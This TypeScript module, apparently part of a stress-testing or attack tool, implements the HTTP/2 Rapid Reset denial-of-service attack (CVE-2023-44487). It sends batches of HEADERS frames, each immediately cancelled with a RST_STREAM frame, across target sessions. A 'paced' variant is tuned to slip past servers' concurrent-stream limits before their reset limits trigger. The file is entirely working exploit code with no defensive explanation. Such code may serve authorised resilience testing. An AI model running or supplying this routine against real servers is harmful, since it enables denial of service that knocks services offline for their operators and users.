import { eachSession } from '../each-session.ts';
import { headers, reset } from '../frames.ts';
import { connectBlock } from '../hpack.ts';
import type { Job, Outcome } from '../job.ts';

/**
 * CONNECTs that are reset as soon as they were sent (CVE-2023-44487): as many as the target reads, or, `paced`, so few
 * at once that no limit on streams at once ends the session before the limit on resets does.
 */
export function rapidReset(job: Job): Promise<Outcome> {
  const block = connectBlock(job.authority);
  const [atOnce, everyMillis] = job.variant === 'paced' ? [50, 10] : [100, 0];
  return eachSession(job, async (session, over) => {
    let stream = 1;
    while (!over()) {
      const batch: Buffer[] = [];
      for (let i = 0; i < atOnce; i++, stream += 2) batch.push(headers(stream, block), reset(stream));
      if (!(await session.send(Buffer.concat(batch)))) return;
      session.sent += atOnce;
      if (everyMillis > 0) await new Promise((resolve) => setTimeout(resolve, everyMillis));
    }
  });
}
